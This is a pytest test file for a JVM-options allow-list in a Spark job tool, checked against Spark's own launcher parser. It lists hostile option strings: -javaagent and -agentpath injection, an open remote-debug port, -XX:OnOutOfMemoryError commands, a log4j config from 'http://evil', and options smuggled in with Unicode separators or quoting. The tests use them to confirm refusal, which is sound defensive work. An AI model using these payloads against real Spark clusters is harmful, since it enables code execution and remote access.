"""JVM options by allow-list, split as Spark's launcher splits them (lading_spec.jvmoptions)."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from lading_spec import jvmoptions
from lading_spec.errors import SpecError
from lading_spec.sparkconf import JAVA_OPTIONS, parse_spark_conf

JAVA_SOURCE = Path(__file__).resolve().parents[1] / "support" / "java" / "ParseOptions.java"

# The issue's payloads and their variants: each would reach the JVM as a never-allowed option.
PAYLOADS = [
    '"-java\\agent:/path/agent.jar"',
    "-Xss4m\u2028-javaagent:/path/agent.jar",
    "-Xss4m\u3000-javaagent:/path/agent.jar",
    "-Xss4m\u0085-javaagent:/path/agent.jar",
    "-Xss4m\x1c-javaagent:/path/agent.jar",
    "-Xrunjdwp:transport=dt_socket,server=y,suspend=n,address=*:5005",
    "-Xdebug",
    '"-XX:\\OnOutOfMemoryError=touch /tmp/pwned" -XX:MaxMetaspaceSize=24m',
    "-XX:OnError=sh",
    "-XX:+EnableDynamicAgentLoading",
    "-agentlib:jdwp=transport=dt_socket",
    "-agentpath:/tmp/a.so",
    "-javaagent:/tmp/a.jar",
    "-XX:+UseG1GC -Javaagent:/tmp/a.jar",
    "'-javaagent:/tmp/a.jar'",
    "-java\\agent:/tmp/a.jar",
    "-Dspark.kubernetes.namespace=x",
    "-Dlog4j2.configurationFile=http://evil/l.xml",
    "@/tmp/args",
    "-XX:Flags=/tmp/f",
    "-cp /tmp/x",
    "-XX:+HeapDumpOnOutOfMemoryError",
    "-Djava.system.class.loader=Evil",
    "-Duser.timezone=UTC\u00a0-javaagent:/a.jar",
    "-Xss4m\t-javaagent:/a.jar",
    "-Xss4m\U0001F600",
]
ALLOWED = [
    "",
    "-XX:+UseG1GC",
    "-XX:+UseG1GC -Duser.timezone=UTC -Xss4m",
    "  -XX:MaxMetaspaceSize=256m   -XX:-UseStringDeduplication ",
    "-XX:TieredStopAtLevel=1 -XX:MaxRAMPercentage=75.0 -Dfile.encoding=UTF-8 -Duser.timezone=Europe/Paris",
]
OTHER = ['a "b', "a\\", "'x y' \"z\\\"w\" v", "a\\ b", "x\ud83d\ude00y z", "\u2028\u2028a\u2029b",
         # Java's whitespace: Unicode separators except the non-breaking ones, and nine controls
         *(f"a{chr(c)}b" for c in (*range(0x2000, 0x200C), 0x00A0, 0x202F, 0x1680, 0x205F, 0x3000, 0x0085,
                                   *range(0x09, 0x0E), *range(0x1C, 0x21), 0xFEFF, 0x180E))]


def _hex(value: str) -> str:
    return value.encode("utf-16-be", "surrogatepass").hex()


def _unhex(text: str) -> str:
    return bytes.fromhex(text).decode("utf-16-be", "surrogatepass")


@pytest.fixture(scope="module")
def spark_parsers() -> dict[str, tuple[list[str] | None, list[str]]]:
    """Every test input through Spark's real parsers: {input: (launcher's tokens or None where
    it refuses the string, Utils.splitCommandString's tokens)}."""
    import pyspark

    java = shutil.which("java")
    if java is None:
        pytest.skip("no java on PATH")
    jars = Path(pyspark.__file__).parent / "jars"
    assert any(jars.glob("spark-launcher_*.jar")), jars
    inputs = [*PAYLOADS, *ALLOWED, *OTHER]
    out = subprocess.run([java, "-cp", f"{jars}/*", str(JAVA_SOURCE)], input="\n".join(map(_hex, inputs)) + "\n",
                         capture_output=True, text=True, timeout=300, check=True).stdout.splitlines()
    assert len(out) == 2 * len(inputs), out

    def tokens(line: str) -> list[str]:
        body = line[2:]
        return [_unhex(t) for t in body.split(",")] if body else []

    return {value: (None if out[2 * i] == "L !" else tokens(out[2 * i]), tokens(out[2 * i + 1]))
            for i, value in enumerate(inputs)}


@pytest.mark.parametrize("value", [*PAYLOADS, *ALLOWED, *OTHER])
def test_our_parser_is_sparks_launcher(value: str,
                                       spark_parsers: dict[str, tuple[list[str] | None, list[str]]]) -> None:
    launcher, _ = spark_parsers[value]
    if launcher is None:
        with pytest.raises(ValueError, match="Invalid option string"):
            jvmoptions.parse_option_string(value)
    else:
        assert jvmoptions.parse_option_string(value) == launcher


@pytest.mark.parametrize("value", PAYLOADS)
def test_each_payload_is_refused_and_would_reach_the_jvm(
        value: str, spark_parsers: dict[str, tuple[list[str] | None, list[str]]]) -> None:
    """Spark's parsers would hand the JVM a never-allowed option (or a character we refuse); the
    allow-list refuses the string."""
    assert jvmoptions.check_java_options(value) is not None
    launcher, _ = spark_parsers[value]
    assert launcher is not None


@pytest.mark.parametrize(("value", "smuggled"), [
    ('"-java\\agent:/path/agent.jar"', "-javaagent:/path/agent.jar"),
    ("-Xss4m\u2028-javaagent:/path/agent.jar", "-javaagent:/path/agent.jar"),
    ("-Xrunjdwp:transport=dt_socket,server=y,suspend=n,address=*:5005",
     "-Xrunjdwp:transport=dt_socket,server=y,suspend=n,address=*:5005"),
    ('"-XX:\\OnOutOfMemoryError=touch /tmp/pwned" -XX:MaxMetaspaceSize=24m', "-XX:OnOutOfMemoryError=touch /tmp/pwned"),
])
def test_the_issues_payloads_reach_the_jvm_through_spark_and_are_refused(
        value: str, smuggled: str, spark_parsers: dict[str, tuple[list[str] | None, list[str]]]) -> None:
    launcher, _ = spark_parsers[value]
    assert launcher is not None and smuggled in launcher
    assert smuggled in jvmoptions.parse_option_string(value)
    with pytest.raises(SpecError, match="spark.sparkConf.spark.driver.extraJavaOptions"):
        parse_spark_conf({"spark.driver.extraJavaOptions": value})


@pytest.mark.parametrize("value", ALLOWED)
def test_what_is_allowed_splits_alike_everywhere(
        value: str, spark_parsers: dict[str, tuple[list[str] | None, list[str]]]) -> None:
    """On accepted text the tokens checked are the tokens both of Spark's parsers give the JVM."""
    assert jvmoptions.check_java_options(value) is None
    ours = [t for t in value.split(" ") if t]
    assert spark_parsers[value] == (ours, ours)


@pytest.mark.parametrize("key", JAVA_OPTIONS)
@pytest.mark.parametrize("value", PAYLOADS)
def test_every_java_options_property_refuses_each_payload(key: str, value: str) -> None:
    with pytest.raises(SpecError) as info:
        parse_spark_conf({key: value})
    assert info.value.field == f"spark.sparkConf.{key}"


@pytest.mark.parametrize(("value", "needle"), [
    ('"-java\\agent:/path/agent.jar"', "never allowed with '-javaagent:/path/agent.jar'"),
    ("-Xss4m\u2028-javaagent:/a.jar", "never allowed with '-javaagent:/a.jar'"),
    ('"-XX:\\OnOutOfMemoryError=touch /x" -Xss4m', "never allowed with '-XX:OnOutOfMemoryError=touch /x'"),
    ("-Xss4m\u2028-Xss5m", "U+2028 (LINE SEPARATOR)"),
    ("-Xss4m '-Xss5m'", "U+0027 (APOSTROPHE)"),
    ("-Xss4m \\-Xss5m", "U+005C (REVERSE SOLIDUS)"),
    ("-Xrunjdwp:transport=dt_socket", "never allowed with '-Xrunjdwp:transport=dt_socket'"),
    ("-Xdebug", "never allowed with '-Xdebug'"),
    ("-XX:OnOutOfMemoryError=x", "never allowed"),
    ("-XX:+EnableDynamicAgentLoading", "never allowed"),
    ("-XX:+PrintFlagsFinal", "'-XX:+PrintFlagsFinal' is not an allowed JVM option"),
    ("-Dfoo.bar=1", "'-Dfoo.bar=1' is not an allowed JVM option"),
    ("-Duser.timezone=UTC,-javaagent", "U+002C (COMMA)"),
])
def test_errors_name_the_option_or_character(value: str, needle: str) -> None:
    why = jvmoptions.check_java_options(value)
    assert why is not None and needle in why, why


def test_case_variants_of_the_key_are_checked_too() -> None:
    with pytest.raises(SpecError, match="never allowed"):
        parse_spark_conf({"spark.Driver.ExtraJavaOptions": "-Xrunjdwp:server=y"})


def test_unquoted_yaml_values_become_the_text_spark_reads():
    # lading run takes the YAML as written: `true` and `4` unquoted are a bool and an int there
    assert parse_spark_conf({"spark.sql.adaptive.enabled": True, "spark.sql.shuffle.partitions": 4,
                             "spark.sql.ansi.enabled": False}) == {
        "spark.sql.adaptive.enabled": "true", "spark.sql.ansi.enabled": "false", "spark.sql.shuffle.partitions": "4"}
